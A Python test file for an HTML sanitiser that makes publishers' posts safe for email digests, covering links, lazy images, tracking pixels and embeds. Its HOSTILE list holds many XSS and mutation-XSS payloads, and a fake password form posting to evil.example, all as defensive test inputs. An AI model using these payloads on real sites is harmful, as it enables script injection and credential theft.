"""What a publisher wrote, made safe and fit for mail (digest D4, D5; abuse C12; gather P4)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from digest.gather.clean import MAX_DEPTH, clean_html
from digest.gather.links import absolute

BASE = "https://blog.example.org/posts/1"
VOID = {"br", "hr", "img"}
ATTRIBUTES = {
    "href", "src", "alt", "title", "width", "height", "lang", "dir", "colspan", "rowspan", "scope", "start",
    "type", "reversed", "value",
}  # fmt: skip
FORBIDDEN = {
    "script", "style", "svg", "math", "form", "input", "button", "iframe", "object", "embed", "video",
    "audio",
    "meta", "link", "base", "html", "body", "template", "textarea", "select", "noscript", "frame", "marquee",
}  # fmt: skip


class Inspector(HTMLParser):
    """Fails on anything active, any unknown attribute, any unbalanced tag."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.depth = 0
        #: where links inside lead, and the places they may lead to
        self.led_to: set[str] = set()
        self.places: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in FORBIDDEN, tag
        for name, value in attrs:
            if name == "id":
                self.places.append(value or "")
                continue
            assert name in ATTRIBUTES, name
            if name == "href" and (value or "").startswith("#"):
                self.led_to.add((value or "")[1:])
            elif name in ("href", "src"):
                assert re.match(r"(?:https?:|mailto:)", value or "", re.IGNORECASE), value
        if tag == "img":
            assert "alt" in dict(attrs) and "src" in dict(attrs)
        if tag not in VOID:
            self.open.append(tag)
            self.depth = max(self.depth, len(self.open))

    def handle_endtag(self, tag: str) -> None:
        assert self.open and self.open.pop() == tag, tag

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment is left")


def inspected(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    assert inspector.open == []
    assert sorted(inspector.places) == sorted(inspector.led_to)
    return inspector


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="cid:part1"><a href="cid:part1">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    "<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)" title="t"></iframe>',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">',
    '<div style="position:fixed;top:0;background:url(javascript:1);width:expression(alert(1))">x</div>',
    '<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">',
    '<object data="x.swf"><embed src="x.swf"></object>',
    '<p title=\'"><script>alert(1)</script>\'>x</p>',
    '<a href=\'https://x.example/"onmouseover="alert(1)\'>x</a>',
    '<img src="/a.png" alt=\'"><script>alert(1)</script>\' srcset="javascript:alert(1) 2x">',
    '<img data-src="javascript:alert(1)"><img data-src=\'/x" onerror="alert(1)\'>',
    '<video poster="javascript:alert(1)" src=\'/v.mp4"onload="x\'></video>',
    "<table><tr><td>x<div><p>", "<b><i><a href=/x>unclosed", "</div></table></body></html>after", "<!-- <p>",
    "<plaintext>x", "<xmp><img src=x onerror=1></xmp>", "<![CDATA[<script>alert(1)</script>]]>", "<",
    "<img src=1 <b>x", '<iframe src="/x" title="a"b">', "<textarea><script>alert(1)</script></textarea>",
    '<ul id="a" class="b" onclick=c><li style=d>x</ul>', "<template><script>1</script></template>",
]  # fmt: skip

PIECES = [
    *HOSTILE, "text ", "<p>", "</p>", "<div>", "</div>", "<pre>\n\n", "</pre>", "<table>", "<td>", "</table>",
    "<noscript>", "</noscript>", "<video>", "</iframe>", "<img src='/a.png'>", "&lt;b&gt;", "&amp;lt;",
    "\x00",
    "\n",
    "<section>", "</section>", "<li>", "</ul>", "<a href='#x'>", "</a>", "<img width=1 src=/p>", '"',
    "'", ">",
]  # fmt: skip


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_active_comes_through(html: str) -> None:
    inspected(clean_html(html, BASE))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=8), max_size=12).map("".join))
def test_any_mixture_comes_out_harmless_and_balanced_and_cleaning_it_again_changes_nothing(html: str) -> None:
    once = clean_html(html, BASE)
    inspected(once)
    assert clean_html(once, BASE) == once


@pytest.mark.parametrize("tag", ["div", "b", "blockquote", "ul><li", "table><tr><td", "span"])
def test_deep_nesting_is_bounded_and_keeps_the_text(tag: str) -> None:
    cleaned = clean_html(f"<{tag}>" * 300 + "text", BASE)
    assert inspected(cleaned).depth <= MAX_DEPTH and "text" in cleaned
    assert clean_html(cleaned, BASE) == cleaned


def test_code_shown_as_references_stays_literal() -> None:
    html = "<p>&lt;b&gt; and &amp;lt;b&amp;gt;</p><pre>if a &lt; b:\n    pass</pre>"
    assert clean_html(html, BASE) == html


ADDRESSES = [
    ("/about", "https://blog.example.org/about"),
    ("../2?a=1", "https://blog.example.org/2?a=1"),
    ("more", "https://blog.example.org/posts/more"),
    ("#note", "https://blog.example.org/posts/1#note"),
    ("//cdn.example.net/x", "https://cdn.example.net/x"),
    ("http://other.example/x", "http://other.example/x"),
    ("mailto:a@example.org", "mailto:a@example.org"),
    ("/./a/../b", "https://blog.example.org/b"),
]


@pytest.mark.parametrize(("written", "meant"), ADDRESSES)
def test_links_are_absolute_and_protocol_relative_ones_https(written: str, meant: str) -> None:
    assert clean_html(f'<a href="{written}">x</a>', BASE) == f'<a href="{meant}">x</a>'


def test_without_a_base_a_relative_link_is_no_link() -> None:
    assert clean_html('<a href="/x">text</a>', "") == "<a>text</a>"


@given(st.text(max_size=60), st.sampled_from(["", BASE, "https://[", "mailto:a@b", "http://x.org"]))
def test_an_address_is_absolute_or_none(address: str, base: str) -> None:
    found = absolute(address, base)
    assert found is None or re.fullmatch(r"https?://\S+", found, re.IGNORECASE)


LAZY = [
    '<img src="data:image/gif;base64,R0lGOD" data-src="/real.jpg" alt="a">',
    '<img src="/spacer.gif" data-lazy-src="/real.jpg" alt="a">',
    '<img src="/placeholder.png" srcset="/real.jpg 640w, /big.jpg 1280w" alt="a">',
    '<img data-srcset="/real.jpg 1x" alt="a">',
    '<img src="/lazy.svg" data-src="/real.jpg" alt="a"><noscript><img src="/real.jpg" alt="a"></noscript>',
    '<picture><source srcset="/x.webp"><img src="/real.jpg" srcset="/x.jpg 2x" class=b alt="a"></picture>',
]


@pytest.mark.parametrize("html", LAZY)
def test_a_lazy_image_is_the_real_one_and_once(html: str) -> None:
    assert clean_html(html, BASE) == '<img src="https://blog.example.org/real.jpg" alt="a">'


PIXELS = [
    '<img src="https://x.example/p.gif" width="1" height="1">',
    "<img src=/p.gif width=0>",
    '<img src="/p.gif" height="2px">',
    '<img src="/p.gif" style="display: none">',
    '<img src="https://feeds.feedburner.com/~r/blog/~4/abc" alt="">',
    '<img src="https://pixel.wp.com/b.gif?host=x">',
    '<img src="https://stats.example.org/matomo.php?idsite=1&amp;rec=1">',
    '<iframe src="https://www.googletagmanager.com/ns.html" width=0 height=0></iframe>',
    '<p><a href="/x"><img src="/p.gif" width="1"></a></p>',
]


@pytest.mark.parametrize("html", PIXELS)
def test_a_tracking_pixel_leaves_nothing_behind(html: str) -> None:
    assert clean_html(f"<p>a</p>{html}", BASE) == "<p>a</p>"


def test_an_image_keeps_its_size_in_pixels_and_gets_an_alt() -> None:
    html = '<img src="/a.png" width="640" height="50%" class="x" srcset="/b.png 2x">'
    assert clean_html(html, BASE) == '<img src="https://blog.example.org/a.png" alt="" width="640">'


EMBEDS = [
    ('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?rel=0" title="A talk"></iframe>',
     '<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">▶ A talk</a></p>'),
    ('<iframe src="//player.vimeo.com/video/123"></iframe>',
     '<p><a href="https://vimeo.com/123">▶ vimeo.com</a></p>'),
    ('<video poster="/p.jpg"><source src="/v.mp4">old browser</video>',
     '<p><a href="https://blog.example.org/v.mp4"><img src="https://blog.example.org/p.jpg" alt=""><br>▶ video</a></p>'),  # noqa: E501
    ('<audio src="https://pod.example/1.mp3"></audio>',
     '<p><a href="https://pod.example/1.mp3">▶ pod.example</a></p>'),
    ('<iframe src="https://w.example/x" title="W"/>', '<p><a href="https://w.example/x">▶ W</a></p>'),
]  # fmt: skip


@pytest.mark.parametrize(("html", "link"), EMBEDS)
def test_a_frame_or_video_becomes_a_link_and_swallows_nothing(html: str, link: str) -> None:
    assert clean_html(f"<p>before</p>{html}<p>after</p>", BASE) == f"<p>before</p>{link}<p>after</p>"


def test_blocks_unknown_to_mail_still_part_their_text() -> None:
    assert clean_html("<section>a</section><article>b</article>", BASE) == "<div>a</div><div>b</div>"


def test_language_and_direction_stay() -> None:
    html = '<p lang="ar" dir="rtl">x</p>'
    assert clean_html(html, BASE) == html


def test_a_link_inside_an_entry_and_the_place_it_leads_to_are_kept() -> None:
    html = '<p>a<a href="#n1">1</a></p><ol><li id="n1">note</li></ol><p id="other">x</p>'
    assert clean_html(html, BASE) == html.replace(' id="other"', "")


def test_an_old_named_anchor_is_a_place_too_even_an_empty_one() -> None:
    html = '<a href="#n%C3%A9">1</a><p><a name="né"></a>note</p>'
    assert clean_html(html, BASE) == '<a href="#né">1</a><p><a id="né"></a>note</p>'


def test_a_place_stands_once_and_a_link_to_none_goes_to_the_publishers_page() -> None:
    html = '<a href="#a">1</a><a href="#b">2</a><p id="a">x</p><p id="a">y</p>'
    assert clean_html(html, BASE) == (f'<a href="#a">1</a><a href="{BASE}#b">2</a><p id="a">x</p><p>y</p>')


LINKED = [
    "<a href='#x'>", "<a href=#y>", "</a>", "<p id=x>", "<a name=y>", "</p>", "<i id=x>", "</i>", "text",
    '<a href="#a&b">', '<p id="a&amp;b">', "<div id=y>", "</div>", "<img id=x>", "<hr id='a b'>",
    "<img src=#x id=x>",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(LINKED), max_size=10).map("".join))
def test_cleaning_links_and_places_again_changes_nothing(html: str) -> None:
    once = clean_html(html, BASE)
    assert clean_html(once, BASE) == once
